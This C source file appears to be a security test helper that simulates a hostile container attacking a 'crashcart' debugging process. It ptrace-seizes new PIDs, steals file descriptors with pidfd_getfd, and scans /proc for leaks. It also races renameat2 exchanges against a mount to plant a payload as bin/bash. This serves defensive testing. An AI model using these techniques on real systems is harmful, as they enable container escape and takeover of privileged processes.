/* Attacks a hostile container runs against the crashcart processes that appear in it
 * (tests/fault/test_attacks.py). Static (musl), so it runs in any fixture container.
 * Every result is one line, "WHAT PID DETAILS", flushed at once; the spinners run for at
 * most SECONDS (or until SIGTERM), then print "end ..." and exit by themselves.
 *
 *   attacks take PID TEMPLATE...      ptrace-seize PID, stop it, and take what it holds:
 *                                     capabilities, mount namespace, root and cwd (dev:ino),
 *                                     every fd 0..255 (pidfd_getfd), and each TEMPLATE:
 *                                     "read:PATH" (print the file's first bytes) or
 *                                     "create:PATH" (create it, if a file "marker" is
 *                                     next to it); "@" in PATH is the PID
 *   attacks take-spin SECONDS TEMPLATE...
 *                                     the same on every new PID as it appears (polls
 *                                     ns_last_pid), up to 3 times per process
 *   attacks hold PID SECONDS          seize PID, stop it, and keep it stopped
 *   attacks peek PID NEEDLE...        no ptrace: read /proc/PID/{mountinfo,net/dev,net/unix,
 *                                     net/tcp,net/tcp6}; print lines with a NEEDLE, every
 *                                     interface but lo, and TCP sockets that are not ours
 *   attacks peek-spin SECONDS NEEDLE... the same on every new PID, again and again
 *   attacks comm NAME SECONDS         set our own comm (PR_SET_NAME) to NAME, then sleep
 *   attacks swap A B SECONDS          mkdir B; each time A is created, exchange A and B
 *                                     (renameat2 RENAME_EXCHANGE), and again when the
 *                                     new A is opened (inotify): what was opened as A
 *                                     is named B when it gets mounted on
 *   attacks swapfill A B SECONDS PAYLOAD
 *                                     one such round; if the mount landed at B, fill the
 *                                     plain directory now at A with PAYLOAD as bin/bash,
 *                                     usr/bin/env and shell
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef PTRACE_SEIZE
#define PTRACE_SEIZE 0x4206
#endif
#ifndef PTRACE_INTERRUPT
#define PTRACE_INTERRUPT 0x4207
#endif
#define RENAME_EXCHANGE 2

static volatile sig_atomic_t stop;
static void on_term(int s) { (void)s; stop = 1; }

static const char *ename(int e) {
    switch (e) {
    case EPERM: return "EPERM";
    case EACCES: return "EACCES";
    case ENOENT: return "ENOENT";
    case ESRCH: return "ESRCH";
    case EBUSY: return "EBUSY";
    case EEXIST: return "EEXIST";
    case EINVAL: return "EINVAL";
    case EBADF: return "EBADF";
    case EXDEV: return "EXDEV";
    case EROFS: return "EROFS";
    default: return strerror(e);
    }
}

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* Text of a file, NUL-terminated, at most cap-1 bytes; -1 on error (errno set). */
static ssize_t slurp(const char *path, char *buf, size_t cap) {
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return -1;
    size_t n = 0;
    ssize_t r;
    while (n + 1 < cap && (r = read(fd, buf + n, cap - 1 - n)) > 0)
        n += r;
    int e = errno;
    close(fd);
    buf[n] = 0;
    if (r < 0 && n == 0) {
        errno = e;
        return -1;
    }
    return n;
}

static void printable(char *s) {
    for (; *s; s++)
        if (*s < 0x21 || *s > 0x7e)
            *s = '.';
}

static void expand(const char *tpl, int pid, char *out, size_t cap) {
    size_t n = 0;
    for (; *tpl && n + 12 < cap; tpl++) {
        if (*tpl == '@')
            n += snprintf(out + n, cap - n, "%d", pid);
        else
            out[n++] = *tpl;
    }
    out[n] = 0;
}

static int last_pid(void) {
    char buf[32];
    if (slurp("/proc/sys/kernel/ns_last_pid", buf, sizeof buf) < 0)
        return -1;
    return atoi(buf);
}

/* ------------------------------------------------------------------------------------- */
/* take: what a CAP_SYS_PTRACE holder gets from a process */

static void status_caps(int pid) {
    char path[64], buf[4096];
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    if (slurp(path, buf, sizeof buf) < 0) {
        printf("caps %d %s\n", pid, ename(errno));
        return;
    }
    char prm[32] = "?", eff[32] = "?", name[64] = "?";
    for (char *line = strtok(buf, "\n"); line; line = strtok(0, "\n")) {
        if (!strncmp(line, "CapPrm:", 7))
            sscanf(line + 7, "%31s", prm);
        else if (!strncmp(line, "CapEff:", 7))
            sscanf(line + 7, "%31s", eff);
        else if (!strncmp(line, "Name:", 5))
            sscanf(line + 5, "%63s", name);
    }
    printable(name);
    printf("caps %d CapPrm=%s CapEff=%s name=%s\n", pid, prm, eff, name);
}

static void stat_line(const char *what, int pid, const char *path) {
    struct stat st;
    if (stat(path, &st) < 0)
        printf("%s %d %s\n", what, pid, ename(errno));
    else
        printf("%s %d %u:%u:%llu\n", what, pid, major(st.st_dev), minor(st.st_dev),
               (unsigned long long)st.st_ino);
}

static void try_read(int pid, const char *path) {
    char buf[80];
    if (slurp(path, buf, sizeof buf) < 0) {
        printf("read %d %s %s\n", pid, path, ename(errno));
        return;
    }
    printable(buf);
    printf("read %d %s ok %s\n", pid, path, buf);
}

/* Only next to a file named "marker" (the host's, as the test made it): never leave a
 * file in a directory of the container's own. */
static void try_create(int pid, const char *path) {
    char marker[600];
    const char *slash = strrchr(path, '/');
    snprintf(marker, sizeof marker, "%.*s/marker", (int)(slash ? slash - path : 0), path);
    if (access(marker, F_OK) < 0) {
        printf("create %d %s skipped (no marker there)\n", pid, path);
        return;
    }
    int fd = open(path, O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0644);
    if (fd < 0) {
        printf("create %d %s %s\n", pid, path, ename(errno));
        return;
    }
    (void)!write(fd, "written by a container process\n", 31);
    close(fd);
    printf("create %d %s ok\n", pid, path);
}

static void steal_fds(int pid) {
    int pidfd = syscall(SYS_pidfd_open, pid, 0);
    if (pidfd < 0) {
        printf("getfd %d pidfd_open %s\n", pid, ename(errno));
        return;
    }
    int stolen = 0, first_err = 0;
    for (int n = 0; n < 256; n++) {
        int fd = syscall(SYS_pidfd_getfd, pidfd, n, 0);
        if (fd < 0) {
            if (errno != EBADF && !first_err)
                first_err = errno;
            continue;
        }
        char link[64], target[512];
        struct stat st;
        snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
        ssize_t len = readlink(link, target, sizeof target - 1);
        target[len < 0 ? 0 : len] = 0;
        printable(target);
        fstat(fd, &st);
        printf("fd %d %d dev=%u:%u ino=%llu rdev=%u:%u mode=%o link=%s\n", pid, n,
               major(st.st_dev), minor(st.st_dev), (unsigned long long)st.st_ino,
               major(st.st_rdev), minor(st.st_rdev), st.st_mode & S_IFMT, target);
        close(fd);
        stolen++;
    }
    close(pidfd);
    printf("getfd %d stolen=%d%s%s\n", pid, stolen, first_err ? " error=" : "",
           first_err ? ename(first_err) : "");
}

/* Stop a tracee we seized; 1 when it is stopped under us (or still running but ours). */
static int stop_seized(int pid) {
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    double end = now() + 2;
    int status;
    while (now() < end) {
        int r = waitpid(pid, &status, __WALL | WNOHANG);
        if (r == pid && WIFSTOPPED(status)) {
            printf("seize %d ok\n", pid);
            return 1;
        }
        if (r == pid || (r < 0 && errno == ECHILD)) {
            printf("seize %d ok-but-exited\n", pid);
            return 0;
        }
        usleep(100);
    }
    printf("seize %d ok-but-not-stopped\n", pid);
    return 1;
}

static int seize_and_stop(int pid) {
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) {
        printf("seize %d %s\n", pid, ename(errno));
        return 0;
    }
    return stop_seized(pid);
}

static void inspect(int pid, char **templates, int n) {
    char path[512];
    status_caps(pid);
    snprintf(path, sizeof path, "/proc/%d/ns/mnt", pid);
    stat_line("mnt", pid, path);
    snprintf(path, sizeof path, "/proc/%d/root/", pid);
    stat_line("root", pid, path);
    snprintf(path, sizeof path, "/proc/%d/cwd/", pid);
    stat_line("cwd", pid, path);
    for (int i = 0; i < n; i++) {
        if (!strncmp(templates[i], "read:", 5)) {
            expand(templates[i] + 5, pid, path, sizeof path);
            try_read(pid, path);
        } else if (!strncmp(templates[i], "create:", 7)) {
            expand(templates[i] + 7, pid, path, sizeof path);
            try_create(pid, path);
        }
    }
    steal_fds(pid);
}

static int take(int pid, char **templates, int n) {
    int held = seize_and_stop(pid);
    inspect(pid, templates, n);
    if (held)
        ptrace(PTRACE_DETACH, pid, 0, 0);
    printf("done %d\n", pid);
    return 0;
}

#define SLOTS 65536
static unsigned char tries[SLOTS];

/* Poll for each new PID of the namespace and seize it as soon as it exists: the kernel
 * hands out PIDs in order, so the next process is ns_last_pid + 1. */
static int take_spin(double seconds, char **templates, int n) {
    int self = getpid(), attacks = 0;
    double end = now() + seconds;
    printf("ready %d\n", self);
    while (!stop && now() < end) {
        int last = last_pid();
        for (int pid = last; pid <= last + 2; pid++) {
            if (pid <= self || tries[pid % SLOTS] >= 3)
                continue;
            if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
                continue;
            tries[pid % SLOTS]++;
            attacks++;
            int held = stop_seized(pid);
            inspect(pid, templates, n);
            if (held)
                ptrace(PTRACE_DETACH, pid, 0, 0);
            printf("done %d\n", pid);
        }
    }
    printf("end attacks=%d\n", attacks);
    return 0;
}

static int hold(int pid, double seconds) {
    if (!seize_and_stop(pid))
        return 1;
    status_caps(pid);
    printf("held %d\n", pid);
    double end = now() + seconds;
    while (!stop && now() < end)
        usleep(50000);
    printf("end held=%d\n", pid);
    return 0; /* exiting detaches it */
}

/* ------------------------------------------------------------------------------------- */
/* peek: what anyone in the container reads of a process without ptrace */

static char own_tcp[2][65536];
static char big[1 << 20];

static int any_needle(const char *line, char **needles, int n) {
    for (int i = 0; i < n; i++)
        if (strstr(line, needles[i]))
            return 1;
    return 0;
}

/* Lines of /proc/PID/FILE that leak: a needle, an interface but lo, a TCP socket that is
 * not in our own table. Returns the number of leaking lines, -1 if unreadable. */
static int peek_file(int pid, const char *file, char **needles, int n, int print) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, file);
    if (slurp(path, big, sizeof big) < 0)
        return -1;
    int hits = 0, lineno = 0;
    int tcp = !strcmp(file, "net/tcp") ? 1 : !strcmp(file, "net/tcp6") ? 2 : 0;
    for (char *line = strtok(big, "\n"); line; line = strtok(0, "\n"), lineno++) {
        int hit = any_needle(line, needles, n);
        char what[96] = "";
        if (!strcmp(file, "net/dev") && lineno >= 2) {
            char iface[64] = "";
            sscanf(line, " %63[^:]", iface);
            if (strcmp(iface, "lo")) {
                hit = 1;
                snprintf(what, sizeof what, "interface %s", iface);
            }
        }
        if (tcp && lineno >= 1) {
            char local[64], remote[64], st[8], key[160];
            if (sscanf(line, "%*s %63s %63s %7s", local, remote, st) == 3) {
                snprintf(key, sizeof key, "%s %s %s", local, remote, st);
                if (!strstr(own_tcp[tcp - 1], key))
                    hit = 1;
            }
        }
        if (hit) {
            hits++;
            if (print) {
                char copy[400];
                snprintf(copy, sizeof copy, "%s", line);
                printf("hit %d %s %s%s%s\n", pid, file, what, *what ? " | " : "", copy);
            }
        }
    }
    if (print && hits && !strcmp(file, "mountinfo"))
        printf("lines %d mountinfo %d\n", pid, lineno);
    return hits;
}

static const char *PEEK_FILES[] = {"mountinfo", "net/dev", "net/unix", "net/tcp", "net/tcp6"};

static void load_own_tcp(void) {
    slurp("/proc/self/net/tcp", own_tcp[0], sizeof own_tcp[0]);
    slurp("/proc/self/net/tcp6", own_tcp[1], sizeof own_tcp[1]);
}

static int peek(int pid, char **needles, int n) {
    load_own_tcp();
    for (int i = 0; i < 5; i++)
        if (peek_file(pid, PEEK_FILES[i], needles, n, 1) < 0)
            printf("read %d %s %s\n", pid, PEEK_FILES[i], ename(errno));
    printf("done %d\n", pid);
    return 0;
}

static unsigned char printed[SLOTS][5];

static int peek_spin(double seconds, char **needles, int n) {
    int self = getpid();
    long reads = 0;
    double end = now() + seconds;
    load_own_tcp();
    printf("ready %d\n", self);
    while (!stop && now() < end) {
        int last = last_pid();
        for (int pid = last - 2; pid <= last + 1; pid++) {
            if (pid <= self)
                continue;
            for (int i = 0; i < 5; i++) {
                int first = !printed[pid % SLOTS][i]; /* print each file's leak once */
                int hits = peek_file(pid, PEEK_FILES[i], needles, n, first);
                if (hits < 0)
                    break; /* gone, or not yet there */
                reads++;
                if (hits > 0)
                    printed[pid % SLOTS][i] = 1;
            }
        }
    }
    printf("end reads=%ld\n", reads);
    return 0;
}

/* ------------------------------------------------------------------------------------- */
/* comm, swap */

static int comm(const char *name, double seconds) {
    prctl(PR_SET_NAME, name, 0, 0, 0);
    printf("comm set\n");
    fflush(stdout);
    double end = now() + seconds;
    while (!stop && now() < end)
        usleep(100000);
    return 0;
}

static int is_mount(const char *path) {
    struct stat st, parent;
    char up[512];
    snprintf(up, sizeof up, "%s/..", path);
    return stat(path, &st) == 0 && stat(up, &parent) == 0 && st.st_dev != parent.st_dev;
}

static int copy_file(const char *src, const char *dst) {
    char buf[65536];
    int in = open(src, O_RDONLY), out = open(dst, O_CREAT | O_TRUNC | O_WRONLY, 0755);
    ssize_t n;
    if (in < 0 || out < 0)
        return -1;
    while ((n = read(in, buf, sizeof buf)) > 0)
        (void)!write(out, buf, n);
    close(in);
    close(out);
    return 0;
}

static void fill(const char *dir, const char *payload) {
    char path[512];
    const char *dirs[] = {"bin", "usr", "usr/bin"};
    const char *files[] = {"bin/bash", "usr/bin/env", "shell"};
    for (int i = 0; i < 3; i++) {
        snprintf(path, sizeof path, "%s/%s", dir, dirs[i]);
        mkdir(path, 0755);
    }
    for (int i = 0; i < 3; i++) {
        snprintf(path, sizeof path, "%s/%s", dir, files[i]);
        copy_file(payload, path);
    }
}

static int exchange(const char *a, const char *b) {
    return syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0 ? 0 : errno;
}

/* The next inotify event on `fd` within `ms` that matches `mask` and, if given, `wd` and
 * `name`; 1 when one came, 0 on timeout or stop. */
static char ev_buf[4096] __attribute__((aligned(8)));
static ssize_t ev_len, ev_off;

/* Forget every event queued so far (our own exchanges make IN_MOVED_TO events too). */
static void drain_events(int fd) {
    while (read(fd, ev_buf, sizeof ev_buf) > 0)
        ;
    ev_len = ev_off = 0;
}

static int wait_event(int fd, int ms, unsigned mask, int wd, const char *name) {
    char *buf = ev_buf;
    ssize_t len = ev_len, off = ev_off;
    double end = now() + ms / 1000.0;
    while (!stop) {
        while (off < len) {
            struct inotify_event *ev = (struct inotify_event *)(buf + off);
            off += sizeof *ev + ev->len;
            if ((ev->mask & mask) && (wd < 0 || ev->wd == wd) &&
                (!name || (ev->len && !strcmp(ev->name, name)))) {
                ev_len = len, ev_off = off;
                return 1;
            }
        }
        int left = (int)((end - now()) * 1000);
        if (left <= 0) {
            ev_len = len, ev_off = off;
            return 0;
        }
        struct pollfd pfd = {fd, POLLIN, 0};
        if (poll(&pfd, 1, left < 100 ? left : 100) > 0) {
            len = read(fd, buf, sizeof ev_buf);
            off = 0;
            if (len < 0)
                len = 0;
        }
    }
    ev_len = len, ev_off = off;
    return 0;
}

/* Shared by the waiters of `swap`: who claimed each exchange of each round, and how it went
 * (0: not done, 1: ok, 1 + errno). */
#define MAX_ROUNDS 1024
struct claims {
    int ready;
    int first[MAX_ROUNDS], second[MAX_ROUNDS];
    int first_res[MAX_ROUNDS], second_res[MAX_ROUNDS];
};

static int claim(int *slot) { return __atomic_exchange_n(slot, 1, __ATOMIC_SEQ_CST) == 0; }

/* Aimed, not brute force: watch the parent for A to be created, and B (our own directory)
 * for being opened. When crashcart makes A, exchange A and B at once; if crashcart then
 * opens the name A (now our B), exchange again. Either way the directory crashcart opened
 * and will mount onto is named B by the time it mounts. One round per creation of A.
 * One waiter per CPU (at most 4), each with its own inotify instance: whichever wakes
 * first does each exchange (a waiter on the CPU crashcart runs on wakes too late). */
static int swap(const char *a, const char *b, double seconds, const char *payload) {
    char parent[256];
    const char *base = strrchr(a, '/') + 1;
    snprintf(parent, sizeof parent, "%.*s", (int)(base - a - 1), a);
    struct claims *sh = mmap(0, sizeof *sh, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS,
                             -1, 0);
    long cpus = sysconf(_SC_NPROCESSORS_ONLN);
    int waiters = cpus < 1 ? 1 : cpus > 4 ? 4 : cpus, leader = 1;
    fflush(stdout);
    for (int i = 1; i < waiters && leader; i++)
        leader = fork() != 0;
    int ino = inotify_init1(IN_CLOEXEC | IN_NONBLOCK);
    if (ino < 0 || inotify_add_watch(ino, parent, IN_CREATE | IN_MOVED_TO) < 0) {
        printf("inotify %s %s\n", parent, ename(errno));
        return 1;
    }
    double end = now() + seconds;
    int rounds = 0;
    while (!stop && now() < end && rounds < MAX_ROUNDS) {
        /* Watch our own plain directory at B: not the toolbox the last round left on it. */
        while (is_mount(b) && !stop && now() < end)
            usleep(10000);
        if (mkdir(b, 0755) < 0 && errno != EEXIST) {
            printf("mkdir %s %s\n", b, ename(errno));
            return 1;
        }
        int wb = inotify_add_watch(ino, b, IN_OPEN | IN_ONLYDIR);
        drain_events(ino);
        if (rounds == 0) {
            __atomic_add_fetch(&sh->ready, 1, __ATOMIC_SEQ_CST);
            while (leader && sh->ready < waiters && now() < end)
                usleep(1000);
            if (leader)
                printf("ready %d waiters=%d\n", getpid(), waiters);
        }
        if (!wait_event(ino, (int)((end - now()) * 1000), IN_CREATE | IN_MOVED_TO, -1, base))
            break;
        int k = rounds++;
        if (claim(&sh->first[k]))
            sh->first_res[k] = 1 + exchange(a, b);
        if (wb >= 0 && wait_event(ino, 100, IN_OPEN, wb, 0) && claim(&sh->second[k]))
            sh->second_res[k] = 1 + exchange(a, b);
        if (!leader && payload)
            break; /* one round */
        if (!leader)
            continue;
        int f = sh->first_res[k], g = sh->second_res[k];
        printf("round %d exchange=%s reexchange=%s\n", rounds, f == 1 ? "ok" : ename(f - 1),
               !g ? "none" : g == 1 ? "ok" : ename(g - 1));
        if (!payload)
            continue;
        double deadline = now() + 2;
        while (!is_mount(a) && !is_mount(b) && now() < deadline)
            usleep(1000);
        if (is_mount(b) && !is_mount(a)) {
            fill(a, payload);
            printf("filled %s (the mount is at %s)\n", a, b);
        } else {
            printf("missed: the mount is at %s\n", is_mount(a) ? a : "neither");
        }
        break;
    }
    if (leader) {
        while (wait(0) > 0)
            ;
        printf("end rounds=%d\n", rounds);
    }
    return 0;
}

int main(int argc, char **argv) {
    setvbuf(stdout, 0, _IOLBF, 0);
    signal(SIGTERM, on_term);
    signal(SIGPIPE, SIG_IGN);
    if (argc >= 3 && !strcmp(argv[1], "take"))
        return take(atoi(argv[2]), argv + 3, argc - 3);
    if (argc >= 3 && !strcmp(argv[1], "take-spin"))
        return take_spin(atof(argv[2]), argv + 3, argc - 3);
    if (argc == 4 && !strcmp(argv[1], "hold"))
        return hold(atoi(argv[2]), atof(argv[3]));
    if (argc >= 3 && !strcmp(argv[1], "peek"))
        return peek(atoi(argv[2]), argv + 3, argc - 3);
    if (argc >= 3 && !strcmp(argv[1], "peek-spin"))
        return peek_spin(atof(argv[2]), argv + 3, argc - 3);
    if (argc == 4 && !strcmp(argv[1], "comm"))
        return comm(argv[2], atof(argv[3]));
    if (argc == 5 && !strcmp(argv[1], "swap"))
        return swap(argv[2], argv[3], atof(argv[4]), 0);
    if (argc == 6 && !strcmp(argv[1], "swapfill"))
        return swap(argv[2], argv[3], atof(argv[4]), argv[5]);
    fprintf(stderr, "usage: attacks take PID TEMPLATE... | take-spin SECONDS TEMPLATE... | "
                    "hold PID SECONDS | peek PID NEEDLE... | peek-spin SECONDS NEEDLE... | "
                    "comm NAME SECONDS | swap A B SECONDS | swapfill A B SECONDS PAYLOAD\n");
    return 2;
}
